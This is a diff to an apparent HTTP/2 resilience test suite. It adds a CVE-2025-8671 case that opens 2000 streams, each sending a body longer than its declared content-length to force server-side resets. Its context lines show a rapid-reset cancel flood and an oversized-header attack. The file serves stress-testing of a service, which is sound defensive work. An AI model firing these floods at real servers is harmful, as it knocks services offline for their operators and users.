@@ -56,6 +56,17 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     socket.write(streams(2000, (id) => [get(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]));
     await untilGone(socket, tools);
   }),
+  over("resets that the service is made to send", 20, async (socket, tools) => {
+    // CVE-2025-8671: each stream ends by an error of its caller's, and what was begun for it is in vain.
+    const block = Buffer.concat([
+      requestBlock("POST", "/v1/sanitizeEmail"),
+      headerBlock({ "content-length": "1" }),
+    ]);
+    const begin = (id: number) => frame(FRAME.HEADERS, END_HEADERS, id, block);
+    const tooMuch = (id: number) => frame(FRAME.DATA, END_STREAM, id, Buffer.from("too much"));
+    socket.write(streams(2000, (id) => [begin(id), tooMuch(id)]));
+    await untilGone(socket, tools);
+  }),
   over("huge headers over HTTP/2", 50, async (socket, tools) => {
     const huge = Buffer.concat([requestBlock(), ...Array(120).fill(headerBlock({ x: "y".repeat(126) }))]);
     socket.write(streams(200, (id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, huge)]));
